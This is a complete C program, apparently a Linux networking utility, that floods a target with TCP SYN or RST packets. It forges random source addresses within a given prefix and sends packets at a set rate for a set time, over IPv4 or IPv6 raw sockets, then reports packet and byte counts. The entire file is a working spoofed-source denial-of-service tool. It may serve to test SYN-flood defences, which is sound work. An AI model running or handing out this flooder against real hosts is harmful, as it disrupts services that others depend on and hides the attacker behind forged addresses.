// SPDX-License-Identifier: GPL-2.0
/*
 * Sends SYNs, or RSTs with random numbers, in the name of random sources, at a steady
 * rate, and tells how many IP packets and bytes that were.
 *
 * usage: synflood { syn | rst } DEVICE MAC SOURCE/LEN DESTINATION PORT RATE SECONDS
 *
 * Frames go by DEVICE to MAC. The first LEN bits of all sources are those of SOURCE. It ends
 * early on SIGTERM, and then tells as well.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 32

struct frame {
	uint8_t data[ETH_HLEN + sizeof(struct ip6_hdr) + sizeof(struct tcphdr)];
	size_t len;
};

static struct frame frames[BATCH];
static uint8_t source[16], destination[16];
static size_t addr_len;		/* bytes of an address */
static unsigned int prefix_len;
static uint64_t rnd_state = 88172645463325252ull;
static volatile sig_atomic_t stop;

static void die(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void stop_now(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* xorshift64 */
static uint64_t rnd(void)
{
	rnd_state ^= rnd_state << 13;
	rnd_state ^= rnd_state >> 7;
	rnd_state ^= rnd_state << 17;
	return rnd_state;
}

static uint32_t add_words(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *at = data;

	for (; len; len -= 2, at += 2)
		sum += at[0] << 8 | at[1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void random_source(uint8_t *addr)
{
	uint64_t words[2] = { rnd(), rnd() };
	unsigned int bit;

	memcpy(addr, words, addr_len);
	memcpy(addr, source, prefix_len / 8);
	for (bit = prefix_len / 8 * 8; bit < prefix_len; bit++)
		addr[bit / 8] = (addr[bit / 8] & ~(0x80 >> bit % 8)) |
				(source[bit / 8] & (0x80 >> bit % 8));
}

static void make_ip(uint8_t *at, const uint8_t *from)
{
	struct iphdr *ip = (struct iphdr *)at;
	struct ip6_hdr *ip6 = (struct ip6_hdr *)at;

	if (addr_len == 16) {
		ip6->ip6_flow = htonl(6u << 28);
		ip6->ip6_plen = htons(sizeof(struct tcphdr));
		ip6->ip6_nxt = IPPROTO_TCP;
		ip6->ip6_hlim = 64;
		memcpy(&ip6->ip6_src, from, 16);
		memcpy(&ip6->ip6_dst, destination, 16);
		return;
	}
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(sizeof(*ip) + sizeof(struct tcphdr));
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	memcpy(&ip->saddr, from, 4);
	memcpy(&ip->daddr, destination, 4);
	ip->check = 0;
	ip->check = fold(add_words(0, ip, sizeof(*ip)));
}

static void make_packet(uint8_t *at, bool rst, uint16_t port)
{
	size_t ip_len = addr_len == 4 ? sizeof(struct iphdr) :
					sizeof(struct ip6_hdr);
	struct tcphdr *tcp = (struct tcphdr *)(at + ip_len);
	uint8_t from[16];
	uint32_t sum;

	random_source(from);
	make_ip(at, from);
	memset(tcp, 0, sizeof(*tcp));
	tcp->source = htons(1024 + rnd() % 60000);
	tcp->dest = htons(port);
	tcp->seq = rnd();
	tcp->doff = sizeof(*tcp) / 4;
	tcp->syn = !rst;
	tcp->rst = rst;
	tcp->window = rst ? 0 : htons(64240);
	sum = add_words(IPPROTO_TCP + sizeof(*tcp), from, addr_len);
	sum = add_words(sum, destination, addr_len);
	tcp->check = fold(add_words(sum, tcp, sizeof(*tcp)));
}

static void parse_address(const char *text, uint8_t *addr)
{
	addr_len = strchr(text, ':') ? 16 : 4;
	if (inet_pton(addr_len == 16 ? AF_INET6 : AF_INET, text, addr) != 1) {
		fprintf(stderr, "synflood: %s: not an address\n", text);
		exit(1);
	}
}

static int open_device(const char *name, const char *mac)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	struct ether_header eth = { 0 };
	struct ifreq ifr = { 0 };
	int i, fd = socket(AF_PACKET, SOCK_RAW, 0);

	to.sll_ifindex = if_nametoindex(name);
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", name);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) ||
	    ioctl(fd, SIOCGIFHWADDR, &ifr))
		die(name);
	if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &eth.ether_dhost[0],
		   &eth.ether_dhost[1], &eth.ether_dhost[2],
		   &eth.ether_dhost[3], &eth.ether_dhost[4],
		   &eth.ether_dhost[5]) != ETH_ALEN)
		die(mac);
	memcpy(eth.ether_shost, ifr.ifr_hwaddr.sa_data, ETH_ALEN);
	eth.ether_type = htons(addr_len == 4 ? ETHERTYPE_IP : ETHERTYPE_IPV6);
	for (i = 0; i < BATCH; i++) {
		memcpy(frames[i].data, &eth, sizeof(eth));
		frames[i].len = ETH_HLEN + sizeof(struct tcphdr) +
				(addr_len == 4 ? sizeof(struct iphdr) :
						 sizeof(struct ip6_hdr));
	}
	return fd;
}

/* Returns how many went out. */
static unsigned long send_some(int fd, unsigned int count, bool rst,
			       uint16_t port)
{
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	unsigned int i;
	int sent;

	memset(msgs, 0, sizeof(msgs));
	for (i = 0; i < count; i++) {
		make_packet(frames[i].data + ETH_HLEN, rst, port);
		iov[i].iov_base = frames[i].data;
		iov[i].iov_len = frames[i].len;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, msgs, count, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EINTR)
		die("sendmmsg");
	return sent < 0 ? 0 : sent;
}

int main(int argc, char **argv)
{
	double begin, seconds, rate, due;
	unsigned long sent = 0;
	struct timespec pause = { .tv_nsec = 1000000 };
	uint16_t port;
	char *slash;
	bool rst;
	int fd;

	slash = argc == 9 ? strchr(argv[4], '/') : NULL;
	if (!slash) {
		fprintf(stderr, "usage: synflood { syn | rst } DEVICE MAC SOURCE/LEN DESTINATION PORT RATE SECONDS\n");
		return 1;
	}
	rst = !strcmp(argv[1], "rst");
	*slash = '\0';
	prefix_len = atoi(slash + 1);
	parse_address(argv[4], source);
	parse_address(argv[5], destination);
	port = atoi(argv[6]);
	rate = atof(argv[7]);
	seconds = atof(argv[8]);
	signal(SIGTERM, stop_now);
	fd = open_device(argv[2], argv[3]);
	begin = now();
	while (!stop && now() < begin + seconds) {
		due = (now() - begin) * rate - sent;
		/* What could not be sent in time is not made up for. */
		if (due > rate / 10) {
			begin += (due - rate / 10) / rate;
			due = rate / 10;
		}
		if (due < 1) {
			nanosleep(&pause, NULL);
			continue;
		}
		sent += send_some(fd, due < BATCH ? due : BATCH, rst, port);
	}
	printf("%lu packets %lu bytes\n", sent, sent * (frames[0].len - ETH_HLEN));
	return 0;
}
